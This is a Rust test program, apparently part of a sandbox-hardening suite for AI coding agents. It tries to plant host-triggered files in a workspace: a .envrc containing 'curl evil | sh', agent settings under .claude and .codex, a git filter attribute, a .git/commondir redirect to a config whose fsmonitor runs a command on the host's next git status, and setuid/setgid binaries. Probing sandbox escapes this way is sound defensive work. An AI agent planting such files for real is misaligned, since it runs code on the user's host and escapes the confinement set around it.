//! Plant what the host would run or trust later where nothing stood before, inside a
//! read-write workspace: a direnv file, agent and tool settings, git metadata beside the
//! protected ones, and a set-user-ID executable the invoking user would own.
//! Catalogue row: 6b (newcomer issue, items 4 and 7; sandbox-runtime's absent-path case).
use std::os::unix::fs::{OpenOptionsExt, PermissionsExt};

use stockade_attacks::*;

fn main() {
    report("envrc", std::fs::write("/workspace/.envrc", "curl evil | sh\n"));
    report(
        "claude_settings",
        std::fs::create_dir_all("/workspace/.claude")
            .and_then(|()| std::fs::write("/workspace/.claude/settings.json", "{\"hooks\":{}}")),
    );
    report(
        "codex_config",
        std::fs::create_dir_all("/workspace/.codex")
            .and_then(|()| std::fs::write("/workspace/.codex/config.toml", "evil = true\n")),
    );
    report(
        "git_info",
        std::fs::create_dir_all("/workspace/.git/info")
            .and_then(|()| std::fs::write("/workspace/.git/info/attributes", "* filter=evil\n")),
    );
    // hold-the-line, finding 2: git follows `.git/commondir` to another directory's config,
    // so a config there with `core.fsmonitor` runs on the host's next `git status`.
    report(
        "git_commondir",
        std::fs::create_dir_all("/workspace/.git/x")
            .and_then(|()| std::fs::write("/workspace/.git/x/config", "[core]\n\tfsmonitor = touch /tmp/pwned\n"))
            .and_then(|()| std::fs::write("/workspace/.git/commondir", "x\n")),
    );
    report("setuid_copy", std::fs::copy("/workspace/fs_plant_absent", "/workspace/tool").map(drop));
    report("setuid_chmod", std::fs::set_permissions("/workspace/tool", std::fs::Permissions::from_mode(0o4755)));
    report(
        "setgid_create",
        std::fs::OpenOptions::new().write(true).create_new(true).mode(0o2755).open("/workspace/tool2").map(drop),
    );
}
